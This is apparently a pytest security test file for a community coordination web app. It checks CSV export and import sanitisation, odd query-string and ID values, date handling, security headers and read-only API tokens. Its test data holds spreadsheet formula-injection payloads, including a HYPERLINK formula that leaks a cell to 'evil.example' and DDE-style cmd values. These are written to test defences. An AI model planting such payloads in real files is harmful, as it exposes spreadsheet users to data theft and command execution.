"""Security review: spreadsheet formulas in every CSV export, and odd numbers in addresses and query strings."""

from __future__ import annotations

import csv
import io

import pytest

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _no_formula_cells(text: str) -> None:
    risky = [
        cell
        for cell in _cells(text)
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not cell.lstrip("+-").replace(" ", "").replace(".", "").isdigit()
    ]
    assert not risky, risky


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+2", "'=1+2"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain name", "Plain name"),
        ("+44 161 496 0001", "+44 161 496 0001"),
        ("-1.5", "-1.5"),
        ("", ""),
        (None, None),
        (12, 12),
    ],
)
def test_a_spreadsheet_cell_that_could_run_as_a_formula_is_quoted_and_numbers_are_left_alone(value, expected):
    from coordination.spreadsheet import safe_cell

    assert safe_cell(value) == expected


def test_the_organisations_export_never_hands_a_spreadsheet_a_formula(app, signed_in):
    from coordination.organisations.operations import create_organisation

    create_organisation(
        {
            "name": "Formula Friends",
            "org_type": "community_group",
            "postcode": "",
            "description": FORMULA,
            "address": "@SUM(1+1)*cmd|' /C calc'!A0",
        }
    )
    client, _ = signed_in("coordinator")
    text = client.get("/organisations/export.csv").get_data(as_text=True)
    assert "Formula Friends" in text
    _no_formula_cells(text)


def test_the_import_report_never_hands_a_spreadsheet_a_formula(app):
    from coordination.organisations import importer

    quoted = FORMULA.replace(chr(34), chr(34) * 2)
    upload = importer.read_csv(f'Name,Post Code,Notes,Email\n,M1 1AD,"{quoted}",\nA Group,,,"{quoted}"\n'.encode())
    summary = importer.import_organisations(upload, importer.guess_mapping(upload.headers))
    for text in (summary.report_csv(), importer.refused_csv(summary.headers, summary.refused_rows)):
        assert "HYPERLINK" in text  # the refused row's own cells, and the dropped email in its warning
        _no_formula_cells(text)


def test_a_page_number_too_big_for_the_database_shows_the_last_page_not_an_error(app, signed_in):
    client, _ = signed_in("coordinator")
    assert client.get("/organisations?page=99999999999999999999").status_code == 200
    response = client.get("/api/openreferral/organizations?page=99999999999999999999")
    assert response.status_code == 200 and response.get_json()["total_items"] == 0


@pytest.mark.parametrize(
    "query", ["page=²", "area=²", "practice_area=²", "duplicate=²", "community_id=²", "per_page=²", "page=%D9%A3"]
)
def test_digits_from_other_scripts_in_a_query_string_are_ignored_not_an_error(app, signed_in, query):
    client, _ = signed_in("coordinator")
    for url in (
        "/organisations",
        "/organisations/new",
        "/engagement/",
        "/engagement/outreach",
        "/communities/events/new",
        "/api/openreferral/organizations",
    ):
        assert client.get(f"{url}?{query}").status_code in (200, 302, 404), url


@pytest.mark.parametrize(
    "url",
    [
        "/claims/99999999999999999999",
        "/claims/receipts/99999999999999999999",
        "/claims/payments/batches/99999999999999999999",
    ],
)
def test_an_id_too_big_for_the_database_is_page_not_found(app, signed_in, url):
    client, _ = signed_in("finance")
    assert client.get(url).status_code == 404


@pytest.mark.parametrize(
    "url, field",
    [("/events/new", "date"), ("/claims/on-behalf", "activity_date"), ("/claims/policy", "effective_from")],
)
@pytest.mark.parametrize("values", [["2025-13-45"], ["1", "2", "2025", "4"]])
def test_a_date_sent_in_the_wrong_shape_is_a_plain_error_not_a_crash(app, signed_in, url, field, values):
    client, _ = signed_in("coordinator")
    response = client.post(url, data={field: values, "title": "Walk and talk"})
    assert response.status_code == 200


def test_every_page_and_download_carries_the_same_strict_policy_and_is_never_cached(app, signed_in):
    from tests.test_route_permissions import permission_table, rules

    table = permission_table()
    client, _ = signed_in("coordinator")
    policy = client.get("/sign-in").headers["Content-Security-Policy"].split("'nonce-")[0]
    checked = 0
    for rule in rules(app):
        allowed = table.get(rule.endpoint)
        if (
            "GET" not in rule.methods
            or rule.arguments
            or rule.endpoint in ("static", "assets.vendor")
            or (allowed != "public" and "coordinator" not in allowed)
        ):
            continue
        response = client.get(rule.rule)
        assert response.headers["Content-Security-Policy"].split("'nonce-")[0] == policy, rule.rule
        # Data payloads with an ETag may stay in the person's own browser, always revalidated (304).
        expected = "private, no-cache" if "ETag" in response.headers else "no-store"
        assert response.headers["Cache-Control"] == expected, rule.rule
        checked += 1
    assert checked > 20


def test_an_api_token_only_reads(app, signed_in):
    from coordination.organisations import operations
    from coordination.organisations.models import Organisation

    _, secret = operations.issue_api_token("Reader")
    client = app.test_client()
    headers = {"Authorization": f"Bearer {secret}"}
    assert client.get("/api/openreferral/organizations", headers=headers).status_code == 200
    response = client.post("/organisations/new", headers=headers, data={"name": "Written by a token"})
    assert response.status_code in (302, 401, 403)
    assert not Organisation.query.filter_by(name="Written by a token").count()
